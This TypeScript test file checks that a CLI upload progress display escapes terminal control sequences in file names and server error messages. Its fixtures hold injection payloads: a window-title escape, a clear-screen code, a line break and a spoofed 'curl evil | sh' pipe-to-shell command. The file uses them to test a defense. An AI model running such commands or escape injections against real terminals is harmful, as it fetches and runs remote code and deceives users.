import { strict as assert } from 'node:assert';
import { PassThrough } from 'node:stream';
import type { SessionStatus } from '../../src/core';
import { ProgressDisplay } from '../../src/cli/progressDisplay';

function status(fields: Partial<SessionStatus>): SessionStatus {
  return {
    id: 'id', filePath: '/x', fileName: 'x', pageId: 'p', state: 'uploading', bytesSent: 10, bytesTotal: 100, partsDone: 0, partsTotal: 1,
    bytesPerSecond: 5, etaSeconds: 18, uploadId: null, blockId: null, error: null, notice: null, resumable: false, sha256: null, createdAt: 0, updatedAt: 0,
    ...fields,
  };
}

describe('ProgressDisplay', () => {
  it('draws with its own line codes only: names and server messages cannot add any', () => {
    const stream = Object.assign(new PassThrough(), { columns: 200 });
    let written = '';
    stream.on('data', (chunk: Buffer) => (written += chunk.toString()));
    const statuses = [
      status({ fileName: '\x1b]0;title\x07\x1b[2Jshort.png' }),
      status({ id: 'b', fileName: 'ok.png', state: 'failed', error: { message: 'Bad \x1b[31mred\r\nrun: curl evil | sh\u009b2J' } }),
    ];
    const display = new ProgressDisplay(stream as unknown as NodeJS.WriteStream, () => statuses);
    display.start();
    display.stop();
    // The display's own codes: move up N lines, clear the line.
    const withoutOwnCodes = written.replace(/\x1b\[\d+A/g, '').replace(/\x1b\[2K/g, '');
    assert.doesNotMatch(withoutOwnCodes, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, JSON.stringify(written));
    assert.match(withoutOwnCodes, /^\\x1b\]0;title\\x07\\x1b\[2Jshor\.\.\. uploading/m);
    assert.match(withoutOwnCodes, /^ok\.png +failed +Bad \\x1b\[31mred\\r\\nrun: curl evil \| sh\\x9b2J$/m);
    assert.equal(withoutOwnCodes.split('\n').length, 2 * 2 + 1, 'two lines per draw');
  });
});
